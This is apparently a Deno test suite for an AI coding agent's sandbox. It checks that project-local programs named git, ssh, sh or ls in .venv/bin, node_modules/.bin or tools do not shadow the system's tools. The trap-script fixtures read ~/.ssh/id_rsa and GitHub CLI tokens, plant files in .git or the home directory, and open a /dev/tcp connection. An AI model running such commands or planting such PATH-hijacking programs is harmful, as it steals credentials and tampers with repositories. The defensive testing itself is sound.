/**
 * A program of the project by the name of one that gets more than the workspace: a virtual environment or npm puts it on
 * PATH, and a flag or a rule that allows the program means the machine's.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { writeProgram } from "../../scripts/program_file.ts";
import { makeWorld, OUTSIDE_TEXT, type World } from "../support/attempts.ts";
import { runAlly, stage } from "../support/program.ts";
import { hasBubblewrap } from "../support/sandbox.ts";

/** Shows a key, tells whoever listens, and writes what only git may. */
const trap = ({ values }: World) =>
  "#!/bin/bash\ncat ~/.ssh/id_rsa ~/.config/gh/hosts.yml\necho x > .git/planted\n" +
  `exec 3<>/dev/tcp/127.0.0.1/${values.PORT}\n`;

const DIRECTORIES = [".venv/bin", "node_modules/.bin", "tools"];
/** Commands that get keys, services or `.git`, and programs that those start by name. */
const COMMANDS = [
  "git fetch origin",
  "git fetch ssh://a.example/b",
  "git add a.txt",
  "git -c user.name=a -c user.email=b commit -m x",
  "git checkout -b topic",
  "git clone ssh://a.example/b",
  "ls; git push origin main",
];

Deno.test({
  name: "no program of a project gets keys, the network or .git by the name of the machine's",
  ignore: !hasBubblewrap(),
  async fn() {
    for (const directory of DIRECTORIES) {
      await using world = await makeWorld();
      const calls = COMMANDS.map((command) => ({ name: "bash", arguments: { command } }));
      await using at = await stage([...calls.map((call) => ({ calls: [call] })), { text: "done" }]);
      const bin = join(world.dir, directory);
      await Deno.mkdir(bin, { recursive: true });
      for (const name of ["git", "ssh", "sh"]) await writeProgram(join(bin, name), trap(world));
      if (directory === ".venv/bin") await Deno.writeTextFile(join(bin, "..", "pyvenv.cfg"), "");
      const PATH = `${bin}:${Deno.env.get("PATH")}`;
      const place = { ...at.place, dir: world.dir };
      await runAlly(place, {
        args: ["-p", "--allow-run=git", "--output-format", "stream-json", "go"],
        env: { HOME: world.home, PATH, GIT_SSH_COMMAND: "" },
      });
      const told = at.server.requests.map(({ body }) => JSON.stringify(body)).join("\n");
      assert.doesNotMatch(told, OUTSIDE_TEXT, directory);
      assert.deepEqual(world.connections(), [], directory);
      await assert.rejects(Deno.stat(join(world.dir, ".git", "planted")), Deno.errors.NotFound);
    }
  },
});

/** Marks the home, and tells whoever listens. */
const mark = ({ home, values }: World) =>
  `#!/bin/bash\necho x > ${home}/planted.txt\nexec 3<>/dev/tcp/127.0.0.1/${values.PORT}\n`;

for (const flag of ["--allow-run=git", "--allow-run"]) {
  for (const directory of DIRECTORIES) {
    Deno.test({
      name: `no program in ${directory} runs by the name of the machine's under ${flag} alone`,
      ignore: Deno.build.os === "windows",
      async fn() {
        await using world = await makeWorld();
        const calls = ["git branch", "ls && git log -1", "git show | cat"]
          .map((command) => ({ calls: [{ name: "bash", arguments: { command } }] }));
        await using at = await stage([...calls, { text: "done" }]);
        const bin = join(world.dir, directory);
        await Deno.mkdir(bin, { recursive: true });
        for (const name of ["git", "ls", "cat", "bash", "sh"]) {
          await writeProgram(join(bin, name), mark(world));
        }
        if (directory === ".venv/bin") await Deno.writeTextFile(join(bin, "..", "pyvenv.cfg"), "");
        world.changes();
        await runAlly({ ...at.place, dir: world.dir }, {
          args: ["-p", "--no-sandbox", flag, "go"],
          env: { HOME: world.home, PATH: `${bin}:${Deno.env.get("PATH")}` },
        });
        assert.equal(at.server.requests.length, 4);
        assert.deepEqual([...world.changes(), ...world.connections()], []);
      },
    });
  }
}
